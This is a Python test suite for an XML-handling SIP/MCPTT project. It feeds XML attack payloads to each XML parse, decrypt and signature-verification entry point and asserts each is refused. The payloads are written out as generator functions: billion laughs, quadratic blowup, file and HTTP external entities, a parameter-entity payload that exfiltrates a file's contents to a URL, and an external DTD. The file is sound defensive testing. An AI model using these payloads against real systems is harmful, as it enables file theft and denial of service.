"""Classic XML attacks fed to every XML entry point of the project; each is refused, never expanded.

Entry points: ``xmlsafe.parse_xml``, ``mcinfo.parse_mcptt_info``, ``xmlprotect.decrypt_elements`` (the
document, and the plaintext inside an ``EncryptedData``), ``xmlprotect.verify_bodies`` (the signature
body, and the body a signature names) and ``xmlprotect.unprotect_message`` (an MC XML body, a signature
body, and a body whose signature is valid over its raw octets, so that only the later parse stands in
the way).  Attacks: billion laughs, external entities (``file://`` and ``http://`` against a local
listener that must receive nothing), parameter entities, an external DTD, oversized and too deep
documents.  Each refusal names its cause on one line; no secret file content or expansion shows up in
any output.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.server
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from lxml import etree

from mcinterconnect.mcinfo import McInfoError, McInfoFault, parse_mcptt_info
from mcinterconnect.protect.xmlprotect import (
    DSIG_NS,
    SIGNED_TYPE,
    XENC_NS,
    XmlKeys,
    XmlProtectError,
    decrypt_elements,
    encrypt_elements,
    sign_bodies,
    unprotect_message,
    verify_bodies,
)
from mcinterconnect.sip.message import Headers, SipRequest
from mcinterconnect.sip.multipart import BodyPart, build_multipart
from mcinterconnect.xmlsafe import XmlSafetyError, parse_xml

KEYS = XmlKeys.derive(bytes(range(16)), 0x3ABCDEF1, "a.mc.example")
INFO_TYPE = "application/vnd.3gpp.mcptt-info+xml"
SECRET = "TOP-SECRET-FILE-CONTENT"
LEAK = "LEAKED-OVER-HTTP"
LAUGH = "lol" * 10


def resolve(key_id: int) -> XmlKeys | None:
    return KEYS if key_id == KEYS.key_id else None


class Listener:
    """A local HTTP server that records every request; an external entity would land here."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        recorder = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorder.append(self.path)
                body = f'<!ENTITY leak "{LEAK}">{LEAK}'.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()
    assert server.requests == [], "an XML entry point made a network request"


@pytest.fixture(scope="module")
def secret_uri(tmp_path_factory: pytest.TempPathFactory) -> str:
    path: Path = tmp_path_factory.mktemp("xxe") / "secret.txt"
    path.write_text(SECRET)
    return path.as_uri()


ROOT_OPEN = '<mcpttinfo xmlns="urn:3gpp:ns:mcpttInfo:1.0"><mcptt-Params><session-type>'
ROOT_CLOSE = "</session-type></mcptt-Params></mcpttinfo>"


def billion_laughs(base: str, secret: str) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    dtd = f"<!DOCTYPE mcpttinfo [{''.join(entities)}]>"
    return f'<?xml version="1.0"?>{dtd}{ROOT_OPEN}&lol9;{ROOT_CLOSE}'.encode()


def quadratic_blowup(base: str, secret: str) -> bytes:
    return f'<!DOCTYPE mcpttinfo [<!ENTITY a "{"x" * 5000}">]>{ROOT_OPEN}{"&a;" * 2000}{ROOT_CLOSE}'.encode()


def xxe_file(base: str, secret: str) -> bytes:
    return f'<!DOCTYPE mcpttinfo [<!ENTITY xxe SYSTEM "{secret}">]>{ROOT_OPEN}&xxe;{ROOT_CLOSE}'.encode()


def xxe_http(base: str, secret: str) -> bytes:
    return f'<!DOCTYPE mcpttinfo [<!ENTITY xxe SYSTEM "{base}/entity">]>{ROOT_OPEN}&xxe;{ROOT_CLOSE}'.encode()


def parameter_entity(base: str, secret: str) -> bytes:
    return (
        f'<!DOCTYPE mcpttinfo [<!ENTITY % remote SYSTEM "{base}/parameter.dtd"> %remote;]>'
        f"{ROOT_OPEN}&leak;{ROOT_CLOSE}"
    ).encode()


def parameter_entity_exfiltration(base: str, secret: str) -> bytes:
    return (
        f'<!DOCTYPE mcpttinfo [<!ENTITY % file SYSTEM "{secret}">'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{base}/?%file;'>\"> %wrap; %send;]>"
        f"{ROOT_OPEN}x{ROOT_CLOSE}"
    ).encode()


def external_dtd(base: str, secret: str) -> bytes:
    return f'<!DOCTYPE mcpttinfo SYSTEM "{base}/external.dtd">{ROOT_OPEN}&leak;{ROOT_CLOSE}'.encode()


def oversized(base: str, secret: str) -> bytes:
    return f"{ROOT_OPEN}{'x' * 70_000}{ROOT_CLOSE}".encode()


def too_deep(base: str, secret: str) -> bytes:
    return f"{ROOT_OPEN}{'<a>' * 40}{'</a>' * 40}{ROOT_CLOSE}".encode()


ATTACKS: dict[str, tuple[Callable[[str, str], bytes], str]] = {
    "billion-laughs": (billion_laughs, "DTD"),
    "quadratic-blowup": (quadratic_blowup, "DTD"),
    "xxe-file": (xxe_file, "DTD"),
    "xxe-http": (xxe_http, "DTD"),
    "parameter-entity": (parameter_entity, "DTD"),
    "parameter-entity-exfiltration": (parameter_entity_exfiltration, "DTD"),
    "external-dtd": (external_dtd, "DTD"),
    "oversized": (oversized, "exceeds"),
    "too-deep": (too_deep, "depth exceeds"),
}


@dataclass(frozen=True)
class Refusal:
    """What an entry point said when it refused."""

    kind: type[Exception]
    code: str
    message: str


def _refused(call: Callable[[], object]) -> Refusal:
    try:
        result = call()
    except XmlProtectError as exc:
        return Refusal(XmlProtectError, str(exc.reason), str(exc))
    except McInfoError as exc:
        return Refusal(McInfoError, str(exc.fault), str(exc))
    except XmlSafetyError as exc:
        return Refusal(XmlSafetyError, "", exc.reason)
    raise AssertionError(f"accepted: {result!r:.200}")


# --- How each entry point is fed --------------------------------------------------------------------------


def _sealed_in_encrypted_data(plaintext: bytes) -> bytes:
    """A benign document whose EncryptedData holds ``plaintext``, sealed under the right key."""
    document = encrypt_elements(b"<r><mcptt-request-uri>x</mcptt-request-uri></r>", KEYS)
    iv = bytes(12)
    sealed = iv + AESGCM(KEYS.confidentiality).encrypt(iv, plaintext, None)
    root = etree.fromstring(document)
    next(root.iter(f"{{{XENC_NS}}}CipherValue")).text = base64.b64encode(sealed).decode()
    return etree.tostring(root)


def _attack_inner(document: bytes) -> bytes:
    """The part of an attack that can stand as element content (its DTD, if any, kept in front)."""
    return document[document.index(b"<!DOCTYPE") :] if b"<!DOCTYPE" in document else document


def _signed_over(document: bytes, *, raw: bool) -> tuple[BodyPart, BodyPart]:
    """The attack as an mcptt-info part, and a signature body naming it.

    ``raw``: the signature is valid, over the raw octets (a Reference without transforms), so the
    verification passes without parsing the body and the decryption step must refuse it."""
    part = BodyPart(Headers([("Content-Type", INFO_TYPE), ("Content-ID", "<attack@a.mc.example>")]), b"<x/>")
    signed = sign_bodies([part], KEYS)
    part.body = document
    if not raw:
        return part, signed
    root = etree.fromstring(signed.body)
    info = root.find(f".//{{{DSIG_NS}}}SignedInfo")
    assert info is not None
    reference = info.find(f"{{{DSIG_NS}}}Reference")
    assert reference is not None
    reference.remove(reference[0])  # no Transforms: digest over the octets
    reference[1].text = base64.b64encode(hashlib.sha256(document).digest()).decode()
    value = root.find(f".//{{{DSIG_NS}}}SignatureValue")
    assert value is not None
    canonical = etree.tostring(info, method="c14n")
    value.text = base64.b64encode(hmac.digest(KEYS.integrity, canonical, "sha256")).decode()
    return part, BodyPart(signed.headers.copy(), etree.tostring(root))


def _message(parts: list[BodyPart]) -> SipRequest:
    content_type, body = build_multipart(parts)
    return SipRequest(
        headers=Headers([("Content-Type", content_type)]), body=body, method="MESSAGE", uri="sip:x@b"
    )


def _single(document: bytes) -> SipRequest:
    return SipRequest(
        headers=Headers([("Content-Type", INFO_TYPE)]), body=document, method="MESSAGE", uri="sip:x@b"
    )


def _verify_signed_body(document: bytes) -> object:
    part, signed = _signed_over(document, raw=False)
    return verify_bodies(signed, [part], resolve)


ENTRY_POINTS: dict[str, Callable[[bytes], object]] = {
    "xmlsafe.parse_xml": parse_xml,
    "mcinfo.parse_mcptt_info": parse_mcptt_info,
    "decrypt_elements(document)": lambda doc: decrypt_elements(doc, resolve),
    "decrypt_elements(plaintext)": lambda doc: decrypt_elements(
        _sealed_in_encrypted_data(_attack_inner(doc)), resolve
    ),
    "verify_bodies(signature body)": lambda doc: verify_bodies(
        BodyPart(Headers([("Content-Type", SIGNED_TYPE)]), doc), [], resolve
    ),
    "verify_bodies(signed body)": _verify_signed_body,
    "unprotect_message(mc body, unsigned)": lambda doc: unprotect_message(
        _single(doc), resolve, require_signature=False
    ),
    "unprotect_message(mc body, signed)": lambda doc: unprotect_message(
        _message(list(_signed_over(doc, raw=False))), resolve
    ),
    "unprotect_message(mc body, signed raw)": lambda doc: unprotect_message(
        _message(list(_signed_over(doc, raw=True))), resolve
    ),
    "unprotect_message(signature body)": lambda doc: unprotect_message(
        _message(
            [
                BodyPart(Headers([("Content-Type", INFO_TYPE), ("Content-ID", "<i@a>")]), b"<x/>"),
                BodyPart(Headers([("Content-Type", SIGNED_TYPE)]), doc),
            ]
        ),
        resolve,
    ),
}

#: Where the attack is a plaintext inside EncryptedData, an oversized one makes an oversized document.
_OUTER_LIMIT = {"oversized"}
#: Entry points where the attack is the body a signature names: the signature check fails on it.
_INTEGRITY = {"verify_bodies(signed body)", "unprotect_message(mc body, signed)"}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("entry", sorted(ENTRY_POINTS))
def test_every_entry_point_refuses_every_attack(
    entry: str, attack: str, listener: Listener, secret_uri: str
) -> None:
    build, cause = ATTACKS[attack]
    document = build(listener.base, secret_uri)
    refusal = _refused(lambda: ENTRY_POINTS[entry](document))
    assert refusal.message and "\n" not in refusal.message
    assert cause in refusal.message, refusal.message
    for leaked in (SECRET, LEAK, LAUGH):
        assert leaked not in refusal.message
    if refusal.kind is XmlProtectError:
        expected = "xml-integrity" if entry in _INTEGRITY else "xml-malformed"
        if entry == "decrypt_elements(plaintext)" and attack not in _OUTER_LIMIT:
            assert "decrypted content refused" in refusal.message
        assert refusal.code == expected, refusal
    elif refusal.kind is McInfoError:
        assert refusal.code == McInfoFault.UNSAFE_XML
    assert listener.requests == []


def test_the_listener_answers_when_asked(listener: Listener) -> None:
    """The listener works, so its silence above means no request was made."""
    import urllib.request

    with urllib.request.urlopen(f"{listener.base}/probe", timeout=5) as answer:
        assert LEAK.encode() in answer.read()
    assert listener.requests == ["/probe"]
    listener.requests.clear()


def test_a_validly_signed_attack_is_stopped_at_the_parse_with_the_message_unchanged(
    listener: Listener, secret_uri: str
) -> None:
    message = _message(list(_signed_over(xxe_file(listener.base, secret_uri), raw=True)))
    before = message.to_bytes()
    refusal = _refused(lambda: unprotect_message(message, resolve))
    assert refusal.code == "xml-malformed" and "DTD" in refusal.message
    assert message.to_bytes() == before


def test_xinclude_is_never_processed(secret_uri: str) -> None:
    document = (
        f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><mcptt-request-uri>'
        f'<xi:include href="{secret_uri}" parse="text"/></mcptt-request-uri></r>'
    ).encode()
    plain, _ = decrypt_elements(encrypt_elements(document, KEYS), resolve)
    assert SECRET.encode() not in plain and b"xi:include" in plain
